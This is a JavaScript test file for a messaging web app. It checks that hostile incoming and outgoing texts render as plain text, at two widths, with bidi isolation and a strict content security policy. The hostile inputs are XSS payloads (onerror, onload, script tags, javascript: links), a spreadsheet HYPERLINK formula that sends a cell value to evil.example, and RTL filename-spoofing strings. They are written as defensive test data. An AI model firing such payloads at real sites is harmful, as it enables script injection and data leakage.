// What strangers write is text, whatever it looks like.
import assert from "node:assert/strict";
import { test } from "node:test";
import { until } from "./bank.js";
import { go, stage } from "./stage.js";

const on = await stage();
const { bank } = on;
await bank.ready();

const hostile = [
  '<img src=x onerror="alert(1)">',
  "<script>alert(2)</script>",
  '"><svg onload=alert(3)><iframe src=//evil.example>',
  "<a href=javascript:alert(4)>free</a> https://evil.example/a.png",
  "\u202Egpj.exe\u2066 \u200F\u061C turned round",
  '=HYPERLINK("http://evil.example/"&A1,"a bill")',
  "{{7*7}} ${7*7} %00 %n &lt;b&gt; \\u003cb\\u003e",
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D".repeat(8),
  "long".repeat(400),
];
const stranger = (index) => `+9891255500${10 + index}`;

const ids = [];
for (const [index, text] of hostile.entries()) {
  const sent = await bank.call("POST", "/v1/messages", { to: stranger(index), text,
    reference: '"><b>x' });
  ids.push(sent.id);
  await bank.hear(stranger(index), text);
}
await bank.hear("<b>Shop</b>", "<b>bold</b>");
await bank.hear("+989125550099", "STOP <b>all</b>");
const talks = [];
for (const text of hostile) talks.push(await bank.conversation(text));
await bank.conversation("<b>bold</b>");

/** That the page made no element, script or link of it, opened nothing, and is not torn apart. */
async function isHarmless(page, path) {
  await go(page, path);
  const made = "main :is(img, script, svg, iframe, object, embed, b, [onerror], [onload])";
  assert.deepEqual(await page.locator(made).all(), [], path);
  assert.deepEqual(await page.locator('main a:not([href^="#/"], [href^="/v1/"])').all(), [], path);
  const isTorn = await page.evaluate(() =>
    document.scrollingElement.scrollWidth > document.documentElement.clientWidth);
  assert.equal(isTorn, false, `${path} is wider than the window`);
  assert.deepEqual(on.dialogs, [], path);
}

/** That each stands there as it was written. */
async function says(page, texts) {
  const said = await page.locator(".said").allTextContents();
  for (const text of texts) assert.ok(said.includes(text), `not there: ${text.slice(0, 60)}`);
}

for (const width of [1280, 390]) {
  test(`hostile texts are text in lists, ${width} wide`, async () => {
    const page = await on.signIn("amin", { width });
    await isHarmless(page, "inbox");
    await says(page, [...hostile, "<b>bold</b>"]);
    await isHarmless(page, "messages");
    await says(page, hostile);
    for (const path of ["today", "suppressions", "audit", "rack/slot-01"]) {
      await isHarmless(page, path);
    }
  });

  test(`hostile texts are text on pages of their own, ${width} wide`, async () => {
    const page = await on.signIn("amin", { width });
    for (const [index, text] of hostile.entries()) {
      await isHarmless(page, `messages/${ids[index]}`);
      await says(page, [text]);
      await isHarmless(page, `inbox/${talks[index]}`);
      await says(page, [text]);
    }
  });
}

test("what turns its own text round turns nothing beside it", async () => {
  const page = await on.signIn("amin");
  await go(page, `messages/${ids[4]}`);
  const isolation = await page.locator("blockquote .said").evaluate((element) =>
    getComputedStyle(element).unicodeBidi);
  assert.match(isolation, /isolate/);
});

test("what is searched for and written into a form is text as well", async () => {
  const page = await on.signIn("amin");
  await go(page, "inbox");
  await page.getByLabel("Search").fill(hostile[0]);
  await page.getByLabel("Search").press("Enter");
  await until("an answer", () => page.locator("main .conversations, main .empty").count());
  await go(page, "compose");
  await page.getByLabel("Text").fill(hostile[0] + "ş");
  await page.locator("mark").waitFor();
  assert.equal(await page.locator("main img").count(), 0);
  await page.evaluate(() => { location.hash = "#/inbox/<img src=x onerror=alert(5)>"; });
  await page.getByRole("alert").first().waitFor();
  assert.equal(await page.locator("main img").count(), 0);
  assert.deepEqual(on.dialogs, []);
});

test("the page may load, and talk to, nobody but the program", async () => {
  const page = await on.window();
  const answer = await page.goto(bank.url);
  const policy = answer.headers()["content-security-policy"];
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /script-src 'self'(;|$)/);
  assert.match(policy, /style-src 'self'(;|$)/);
  assert.match(policy, /connect-src 'self'(;|$)/);
  assert.match(policy, /frame-ancestors 'none'/);
  assert.doesNotMatch(policy, /unsafe|\*/);
});
